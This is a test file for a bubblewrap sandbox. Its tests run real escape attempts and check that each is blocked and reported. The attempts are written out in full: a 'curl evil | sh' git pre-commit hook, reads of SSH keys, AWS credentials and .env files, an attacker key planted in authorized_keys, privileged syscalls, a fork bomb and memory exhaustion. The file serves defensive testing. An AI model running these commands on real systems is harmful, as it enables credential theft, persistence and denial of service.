import { existsSync, readFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Sandbox, Violation } from "../src/sandbox/index.js";
import { AUDIT_SECRET, AWS_SECRET, DOTENV_SECRET, makeFixture, processesWith, runIn, SSH_SECRET, type Fixture } from "./sandbox-helpers.js";

/**
 * Escape attempts: each one a real process in a real bubblewrap sandbox, expected to fail and to
 * be reported as a violation. Nothing here is mocked.
 */
let fx: Fixture;
let sandbox: Sandbox;
let loopback: Server;
let loopbackPort = 0;
let unixServer: Server;
let abstractServer: Server;
const abstractName = `gatehouse-test-${process.pid}`;
let hostSocket = "";

beforeAll(async () => {
  fx = makeFixture();
  sandbox = fx.sandbox({
    config: {
      profiles: {
        tight: { limits: { processes: 64, memoryMb: 128, timeoutSeconds: 20, outputBytes: 1024 * 1024 } },
        quick: { limits: { timeoutSeconds: 2 } },
        homeview: { readable: [fx.home] },
      },
    },
  });
  loopback = createServer((c) => c.end("HOST-LOOPBACK-SERVICE\n"));
  await new Promise<void>((r) => loopback.listen(0, "127.0.0.1", r));
  loopbackPort = (loopback.address() as { port: number }).port;
  hostSocket = join(fx.home, "agent.sock");
  unixServer = createServer((c) => c.end("HOST-UNIX-SERVICE\n"));
  await new Promise<void>((r) => unixServer.listen(hostSocket, r));
  abstractServer = createServer((c) => c.end("HOST-ABSTRACT-SERVICE\n"));
  await new Promise<void>((r) => abstractServer.listen(`\0${abstractName}`, r));
});

afterAll(async () => {
  loopback?.close();
  unixServer?.close();
  abstractServer?.close();
  await fx?.cleanup();
});

const sh = (script: string): string[] => ["sh", "-c", script];
const py = (script: string): string[] => ["python3", "-c", script];
const kinds = (vs: readonly Violation[]): string[] => vs.map((v) => (v.limit ? `${v.kind}:${v.limit}` : v.kind));

describe("filesystem escapes", () => {
  it.each([
    { name: "write into /etc", cmd: () => sh("echo pwned > /etc/gatehouse-escape"), host: () => "/etc/gatehouse-escape", kind: "denied-write" },
    { name: "write into /usr/bin", cmd: () => sh("echo pwned > /usr/bin/gatehouse-escape"), host: () => "/usr/bin/gatehouse-escape", kind: "denied-write" },
    { name: "write .git/hooks/pre-commit", cmd: () => sh("echo 'curl evil | sh' > .git/hooks/pre-commit"), host: () => join(fx.work, ".git/hooks/pre-commit"), kind: "denied-write" },
    { name: "create .envrc that does not exist yet", cmd: () => sh("echo 'export X=1' > .envrc"), host: () => join(fx.work, ".envrc"), kind: "denied-write" },
    { name: "create .vscode/tasks.json", cmd: () => sh("mkdir -p .vscode && echo '{}' > .vscode/tasks.json"), host: () => join(fx.work, ".vscode"), kind: "denied-write" },
    { name: "rename .git away to plant fresh hooks", cmd: () => sh("mv .git .git-old"), host: () => join(fx.work, ".git-old"), kind: "denied-write" },
  ])("$name fails, leaves the host untouched and is reported", async ({ cmd, host, kind }) => {
    const { result } = await runIn(sandbox, cmd(), { cwd: fx.work });
    expect(result.exitCode).not.toBe(0);
    expect(existsSync(host())).toBe(false);
    expect(kinds(result.violations)).toContain(kind);
  });

  it("appending to .git/config fails and the config is unchanged", async () => {
    const before = readFileSync(join(fx.work, ".git/config"), "utf8");
    const { result } = await runIn(sandbox, sh("printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config"), { cwd: fx.work });
    expect(result.exitCode).not.toBe(0);
    expect(readFileSync(join(fx.work, ".git/config"), "utf8")).toBe(before);
    expect(kinds(result.violations)).toContain("denied-write");
  });

  it.each([
    { name: "~/.ssh/id_ed25519", cmd: () => sh(`cat ${fx.home}/.ssh/id_ed25519`), secret: SSH_SECRET },
    { name: "/proc/self/root/… of the SSH key", cmd: () => sh(`cat /proc/self/root${fx.home}/.ssh/id_ed25519`), secret: SSH_SECRET },
    { name: "~/.aws/credentials", cmd: () => sh(`cat ${fx.home}/.aws/credentials`), secret: AWS_SECRET },
    { name: "a symlink planted in the workspace", cmd: () => sh("cat key-link"), secret: SSH_SECRET },
    { name: "a hard link planted in the workspace", cmd: () => sh("cat innocent.txt"), secret: SSH_SECRET },
    { name: "a .env file in the workspace", cmd: () => sh("cat .env"), secret: DOTENV_SECRET },
    { name: "the audit database", cmd: () => sh(`cat ${fx.dataDir}/audit.db`), secret: AUDIT_SECRET },
  ])("reading $name fails and is reported", async ({ cmd, secret }) => {
    const { result, stdout } = await runIn(sandbox, cmd(), { cwd: fx.work });
    expect(result.exitCode).not.toBe(0);
    expect(stdout).not.toContain(secret);
    expect(kinds(result.violations)).toContain("denied-read");
  });

  it.each([
    { name: "~/.ssh/id_ed25519", path: () => `${fx.home}/.ssh/id_ed25519` },
    { name: "~/.aws/credentials", path: () => `${fx.home}/.aws/credentials` },
    { name: "the audit database", path: () => `${fx.dataDir}/audit.db` },
  ])("a silent read of $name (errors swallowed, nothing printed) is still reported, from its decoy", async ({ path }) => {
    const { result, stdout, stderr } = await runIn(sandbox, py(`try:\n    print(open(${JSON.stringify(path())}).read())\nexcept Exception:\n    pass`), { cwd: fx.work });
    expect(result.exitCode).toBe(0);
    expect(stdout).toBe("");
    expect(stderr).toBe("");
    expect(result.violations).toContainEqual(expect.objectContaining({ kind: "denied-read", path: path(), evidence: "decoy" }));
  });

  it("a silent listing of ~/.ssh is reported; a key planted there stays in the run", async () => {
    const { result } = await runIn(sandbox, py(`import os\nos.listdir(${JSON.stringify(`${fx.home}/.ssh`)})\nopen(${JSON.stringify(`${fx.home}/.ssh/authorized_keys`)}, "w").write("ssh-ed25519 AAAA evil")`), { cwd: fx.work });
    expect(result.exitCode).toBe(0);
    expect(result.violations).toContainEqual(expect.objectContaining({ kind: "denied-read", path: `${fx.home}/.ssh`, evidence: "decoy" }));
    expect(existsSync(join(fx.home, ".ssh", "authorized_keys"))).toBe(false);
  });

  it("a test that writes fake credentials into the home directory and reads them back still works, unreported", async () => {
    const { result, stdout } = await runIn(sandbox, sh("mkdir -p ~/.aws && printf '[default]\\naws_access_key_id = test\\n' > ~/.aws/credentials && cat ~/.aws/credentials && mkdir -p ~/.docker && echo '{}' > ~/.docker/config.json && ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519 >/dev/null 2>&1; cat ~/.docker/config.json"), { cwd: fx.work });
    expect(result.exitCode).toBe(0);
    expect(stdout).toContain("aws_access_key_id = test");
    expect(stdout).toContain("{}");
    expect(result.violations.filter((v) => v.evidence !== "runner")).toEqual([]);
    expect(readFileSync(join(fx.home, ".aws", "credentials"), "utf8")).toContain(AWS_SECRET);
  });

  it("ordinary work that never looks at credentials reports nothing", async () => {
    const { result } = await runIn(sandbox, sh("ls -la ~ >/dev/null && git status >/dev/null && echo hi > /tmp/x && cat /tmp/x"), { cwd: fx.work });
    expect(result.exitCode).toBe(0);
    // (the fixture's planted hard link is reported before every run, by the runner)
    expect(result.violations.filter((v) => v.evidence !== "runner")).toEqual([]);
  });

  it.each([
    { name: "the SSH key", path: () => `${fx.home}/.ssh/id_ed25519`, secret: SSH_SECRET },
    { name: "the audit database", path: () => `${fx.dataDir}/audit.db`, secret: AUDIT_SECRET },
  ])("a profile that shows the home directory still masks $name", async ({ path, secret }) => {
    const { result, stdout } = await runIn(sandbox, sh(`cat ${path()}`), { cwd: fx.work, profile: "homeview" });
    expect(result.exitCode).not.toBe(0);
    expect(stdout).not.toContain(secret);
    expect(kinds(result.violations)).toContain("denied-read");
  });

  it("/proc/1/environ and the environment hold no ambient credential", async () => {
    const { result, stdout } = await runIn(sandbox, sh("cat /proc/1/environ | tr '\\0' '\\n'; echo; env"), { cwd: fx.work });
    expect(result.exitCode).toBe(0);
    expect(stdout).not.toContain(AWS_SECRET);
    expect(stdout).not.toContain("GITHUB_TOKEN");
    expect(stdout).toContain(`HOME=${fx.home}`);
  });

  it("writes to /tmp and the home directory stay inside the run and vanish", async () => {
    const { result } = await runIn(sandbox, sh(`echo x > /tmp/left-behind && echo y > ${fx.home}/.bashrc && cat ${fx.home}/.bashrc`), { cwd: fx.work });
    expect(result.exitCode).toBe(0);
    expect(readFileSync(join(fx.home, ".bashrc"), "utf8")).toBe("# rc\n");
    expect(existsSync("/tmp/left-behind")).toBe(false);
  });
});

describe("kernel escapes (seccomp, capabilities, namespaces)", () => {
  it.each([
    { name: "mount a tmpfs", cmd: sh("mount -t tmpfs none /tmp") },
    { name: "pivot_root", cmd: py('import ctypes, os, sys\nlibc = ctypes.CDLL(None, use_errno=True)\nos.makedirs("/tmp/new/old")\nr = libc.pivot_root(b"/tmp/new", b"/tmp/new/old")\nprint("pivot_root:", os.strerror(ctypes.get_errno()), file=sys.stderr)\nsys.exit(1 if r != 0 else 0)') },
    { name: "unshare a user namespace", cmd: sh("unshare -U true") },
    { name: "unshare as mapped root", cmd: sh("unshare -r id") },
  ])("$name is refused and reported", async ({ cmd }) => {
    const { result } = await runIn(sandbox, cmd, { cwd: fx.work });
    expect(result.exitCode).not.toBe(0);
    expect(kinds(result.violations)).toContain("blocked-syscall");
  });

  it.each([
    ["unshare(CLONE_NEWUSER)", 272, "0x10000000"],
    ["io_uring_setup", 425, "1, 0"],
    ["keyctl", 250, "0, 0"],
    ["ptrace", 101, "0, 0, 0, 0"],
    ["bpf", 321, "0, 0, 0"],
    ["setns", 308, "0, 0"],
    ["userfaultfd", 323, "0"],
  ])("the system call %s fails with EPERM", async (name, nr, args) => {
    const script = `import ctypes, os, sys\nlibc = ctypes.CDLL(None, use_errno=True)\nr = libc.syscall(${nr}, ${args})\ne = ctypes.get_errno()\nprint("${name}:", r, os.strerror(e), file=sys.stderr)\nsys.exit(0 if r == -1 and e == 1 else 3)`;
    const { result, stderr } = await runIn(sandbox, process.arch === "x64" ? py(script) : sh("exit 0"), { cwd: fx.work });
    expect(stderr).toContain("Operation not permitted");
    expect(result.exitCode).toBe(0);
    expect(kinds(result.violations)).toContain("blocked-syscall");
  });

  it.each([
    { name: "a raw IP socket", family: "socket.AF_INET, socket.SOCK_RAW, 1" },
    { name: "a packet socket", family: "17, socket.SOCK_RAW, 0" },
  ])("opening $name fails and is reported", async ({ family }) => {
    const { result } = await runIn(sandbox, py(`import socket\nsocket.socket(${family})`), { cwd: fx.work });
    expect(result.exitCode).not.toBe(0);
    expect(kinds(result.violations)).toContain("blocked-syscall");
  });
});

describe("network escapes", () => {
  it.each([
    { name: "a service on host loopback", code: () => `import socket\nprint(socket.create_connection(("127.0.0.1", ${loopbackPort}), timeout=3).recv(100))`, marker: "HOST-LOOPBACK-SERVICE" },
    { name: "a host Unix socket", code: () => `import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect("${hostSocket}")\nprint(s.recv(100))`, marker: "HOST-UNIX-SERVICE" },
    { name: "a host abstract Unix socket", code: () => `import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect("\\0${abstractName}")\nprint(s.recv(100))`, marker: "HOST-ABSTRACT-SERVICE" },
    { name: "a DNS lookup", code: () => `import socket\nprint(socket.getaddrinfo("example.com", 80))`, marker: "AddressFamily" },
    { name: "an address on the internet (TEST-NET)", code: () => `import socket\nsocket.create_connection(("192.0.2.1", 80), timeout=3)`, marker: "never" },
  ])("reaching $name fails and is reported", async ({ code, marker }) => {
    const { result, stdout } = await runIn(sandbox, py(code()), { cwd: fx.work });
    expect(result.exitCode).not.toBe(0);
    expect(stdout).not.toContain(marker);
    expect(kinds(result.violations).some((k) => k === "blocked-connection" || k === "denied-read")).toBe(true);
  });
});

describe("resource escapes", () => {
  it("a fork bomb hits the process limit, is reported, and the tree is gone", async () => {
    const started = Date.now();
    const { result } = await runIn(sandbox, sh("b() { b | b & }; b; sleep 2; echo gatehouse-forkbomb-3921 >/dev/null"), { cwd: fx.work, profile: "tight" });
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(kinds(result.violations)).toContain("limit:processes");
    expect(processesWith("gatehouse-forkbomb-3921")).toEqual([]);
  });

  it("a memory bomb is killed at the memory limit and reported", async () => {
    const { result } = await runIn(sandbox, py("a = []\nwhile True: a.append(bytearray(8 * 1024 * 1024))"), { cwd: fx.work, profile: "tight" });
    expect(result.exitCode).not.toBe(0);
    expect(kinds(result.violations)).toContain("limit:memory");
  });

  it("a 10 GB stdout flood is cut at the output cap within seconds", async () => {
    const started = Date.now();
    const { result, stdout } = await runIn(sandbox, sh("head -c 10000000000 /dev/zero"), { cwd: fx.work, profile: "tight" });
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(result.usage.outputBytes).toBeLessThanOrEqual(1024 * 1024);
    expect(stdout.length).toBeLessThanOrEqual(1024 * 1024);
    expect(kinds(result.violations)).toContain("limit:output");
  });

  it("a double-forked daemon that outlives a timeout is killed with the tree", async () => {
    const started = Date.now();
    const { result } = await runIn(sandbox, sh("setsid sh -c 'sleep 3917' & (setsid sleep 3916 &) ; sleep 3918"), { cwd: fx.work, profile: "quick" });
    expect(Date.now() - started).toBeLessThan(8_000);
    expect(result.timedOut).toBe(true);
    expect(result.exitCode).toBe(124);
    expect(kinds(result.violations)).toContain("limit:timeout");
    await new Promise((r) => setTimeout(r, 200));
    expect(processesWith("sleep 391")).toEqual([]);
  });

  it("a daemon left behind by a command that exits normally does not survive the run", async () => {
    const { result } = await runIn(sandbox, sh("(setsid sleep 3919 &) ; exit 0"), { cwd: fx.work });
    expect(result.exitCode).toBe(0);
    await new Promise((r) => setTimeout(r, 200));
    expect(processesWith("sleep 3919")).toEqual([]);
  });
});

describe("audit", () => {
  it("records every run with its command, profile and violations", async () => {
    const before = fx.events.length;
    const { result } = await runIn(sandbox, sh("cat .env"), { cwd: fx.work, run: "agent-run-1" });
    const mine = fx.events.slice(before).filter((e) => e.action === result.runId);
    expect(mine.map((e) => e.type)).toEqual(["decision", "outcome"]);
    expect(mine[0]!.run).toBe("agent-run-1");
    expect(mine[1]!.args).toMatchObject({ command: ["sh", "-c", "cat .env"], profile: "build" });
    expect(JSON.stringify(mine[1]!.outcome)).toContain("denied-read");
  });
});
